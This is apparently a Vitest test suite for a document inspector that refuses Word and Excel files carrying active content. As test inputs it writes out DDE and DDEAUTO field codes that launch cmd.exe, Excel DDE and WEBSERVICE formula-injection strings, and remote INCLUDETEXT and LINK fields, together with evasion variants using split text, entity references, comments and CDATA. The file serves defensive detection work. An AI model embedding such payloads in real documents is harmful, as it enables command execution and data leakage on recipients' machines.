import { describe, expect, it } from 'vitest';
import { inspectFile } from './inspect.ts';
import { officeParts, zip } from './samples.ts';

const refused = { error: 'ACTIVE_CONTENT' };
const inspect = (root: 'word' | 'xl', part: string | Buffer, name = `${root}/part.xml`) =>
  inspectFile(zip(officeParts(root, [{ name, data: part }])), root === 'word' ? 'a.docx' : 'a.xlsx', '');
const namespace = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const body = (xml: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="${namespace}">${xml}</w:document>`;
const char = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const instr = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const result = '<w:r><w:t>DDE | WEBSERVICE("x") INCLUDETEXT</w:t></w:r>';
const field = (...codes: string[]) =>
  `<w:p>${char('begin')}${codes.map(instr).join('')}${char('separate')}${result}${char('end')}</w:p>`;
const sheet = (formula: string, element = 'f') =>
  `<worksheet><sheetData><row><c r="A1"><${element}>${formula}</${element}><v>1</v></c></row></sheetData></worksheet>`;

describe('a field of a Word document', () => {
  it.each([
    ['DDE', field(' DDE cmd "/c calc"')],
    ['DDEAUTO', field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')],
    ['in pieces', field(' DD', 'EAU', 'TO cmd')],
    ['in small letters', field('ddeauto cmd')],
    ['in quotation marks', field(' "DDE" cmd')],
    [
      'within another',
      body(`${char('begin')}${instr('IF 1 = 1 ')}${field('INCLUDEPICTURE "http://example.jp"')}${char('end')}`),
    ],
    ['behind another', body(`${field('PAGE')}${field('DDE cmd')}`)],
    [
      'in the result of another',
      body(`${char('begin')}${instr('TOC')}${char('separate')}${field('DDE cmd')}${char('end')}`),
    ],
    ['without a beginning', instr('DDE cmd')],
    ['without an end', char('begin') + instr('DDE cmd')],
    ['behind an end too many', char('end') + char('end') + field('DDE cmd')],
    ['written by references', field('&#68;&#x44;E cmd')],
    ['cut by a comment', field('DD<!-- -->E cmd')],
    ['as CDATA', field('<![CDATA[DDE cmd]]>')],
    ['as a simple field', '<w:fldSimple w:instr=" DDEAUTO cmd "><w:r/></w:fldSimple>'],
    ['a picture', field('INCLUDEPICTURE  "\\\\\\\\example\\\\a.png" \\d')],
    ['a text', field('INCLUDETEXT "http://example.jp/a.docx"')],
    ['a link', field('LINK Excel.Sheet.12 "\\\\\\\\example\\\\a.xlsx" \\a')],
    ['a database', field('DATABASE \\d "\\\\\\\\example\\\\a.mdb"')],
    ['letters merged', '<w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge>'],
  ])('that fetches or runs something is refused: %s', (_, xml) => {
    expect(inspect('word', body(xml.replace(/<\?xml.*?<w:document.*?>|<\/w:document>/g, '')))).toEqual(refused);
  });

  it('may stand under any prefix, in any part and in UTF-16', () => {
    const xml = body(field('DDE cmd'));
    expect(inspect('word', xml.replaceAll('w:', 'x-y:'), 'elsewhere/part')).toEqual(refused);
    const wide = Buffer.from(`\ufeff${xml.replace('UTF-8', 'UTF-16')}`, 'utf16le');
    expect(inspect('word', wide)).toEqual(refused);
    expect(inspect('word', Buffer.from(wide).swap16())).toEqual(refused);
    expect(inspect('word', wide.subarray(2))).toEqual(refused);
  });

  it('that works within the document is taken', () => {
    const codes = [
      'PAGE',
      ' TOC \\o "1-3" \\h ',
      'HYPERLINK "https://example.jp/dde?include" ',
      'REF link \\h',
      'FORMTEXT',
      '= 1 + 1',
    ];
    const nested = `${char('begin')}${instr('IF ')}${field('PAGE')}${instr('= "1" "DDE" ""')}${char('separate')}${char('end')}`;
    const xml = `${codes.map((code) => field(code)).join('')}${nested}<w:fldSimple w:instr=" NUMPAGES "/><w:t>DDE cmd</w:t>`;
    expect(inspect('word', body(xml))).toHaveProperty('mediaType');
  });
});

describe('a formula of a workbook', () => {
  it.each([
    "cmd|'/c calc'!A1",
    "'cmd'|'/c calc'!A1",
    'cmd&#124;/c!A1',
    '_xlfn.WEBSERVICE("https://example.jp/?"&amp;A1)',
    'webservice (A1)',
    'WEBSERV<!-- -->ICE(A1)',
    '<![CDATA[WEBSERVICE(A1)]]>',
    'WEB<?x?>SERVICE(A1)',
    'W&#69;BSERVICE(A1)',
    '1+RTD("x",,"y")',
    '_xlfn.IMAGE("https://example.jp/a.png")',
    'MAP(A1:A9,_xleta.WEBSERVICE)',
    '"a"&amp;WEBSERVICE("b")',
    "'\"'!A1&amp;cmd|'/c'!A1&amp;\"\"",
    'DDE("a";"b";"c")',
  ])('that fetches or runs something is refused: %s', (formula) => {
    for (const element of ['f', 'x:f', 'formula', 'formula1', 'definedName', 'calculatedColumnFormula'])
      expect(inspect('xl', sheet(formula, element)), element).toEqual(refused);
  });

  it('and a link that is updated without asking, or a table of another workbook, is refused', () => {
    expect(inspect('xl', '<workbook><workbookPr updateLinks="always"/></workbook>')).toEqual(refused);
    expect(inspect('xl', '<calculatedField formula="WEBSERVICE(1)"/>')).toEqual(refused);
    const source = (attribute: string) =>
      `<pivotCacheDefinition refreshOnLoad="1"><cacheSource><worksheetSource ${attribute} sheet="a"/></cacheSource></pivotCacheDefinition>`;
    expect(inspect('xl', source('r:id="rId1"'))).toEqual(refused);
    expect(inspect('xl', source('ref="A1:B9"'))).toHaveProperty('mediaType');
  });

  it('that reckons is taken, whatever texts say', () => {
    for (const formula of [
      'SUM(B1:C1)',
      'IF(A1="a|b","WEBSERVICE(1)",\'a|b\'!A1)',
      'HYPERLINK("https://example.jp")',
      'MYIMAGE(1)',
      'VLOOKUP(A1,&#39;家計&#39;!A:B,2,FALSE)',
    ])
      expect(inspect('xl', sheet(formula)), formula).toHaveProperty('mediaType');
    expect(inspect('xl', '<sst><si><t>a|b WEBSERVICE(1)</t></si></sst>')).toHaveProperty('mediaType');
  });
});

describe('a part that holds instructions', () => {
  it.each([
    ['an open end', '<w:instrText>PAGE'],
    ['an encoding that hides words', '<?xml version="1.0" encoding="utf-7"?><x/>'],
    ['UTF-32', Buffer.from('<\0\0\0x\0\0\0/\0\0\0>\0\0\0', 'latin1')],
  ])('is refused where nobody can read it: %s', (_, part) => {
    expect(inspect('word', part)).toEqual({ error: 'DAMAGED' });
  });

  it('is not read without end', () => {
    expect(inspect('xl', `<f>${'|'.repeat(17 * 1024 * 1024)}</f>`)).toEqual({ error: 'TOO_LARGE' });
    expect(inspect('xl', `<sst>${'<t>a</t>'.repeat(3 * 1024 * 1024)}</sst>`)).toHaveProperty('mediaType');
  });
});
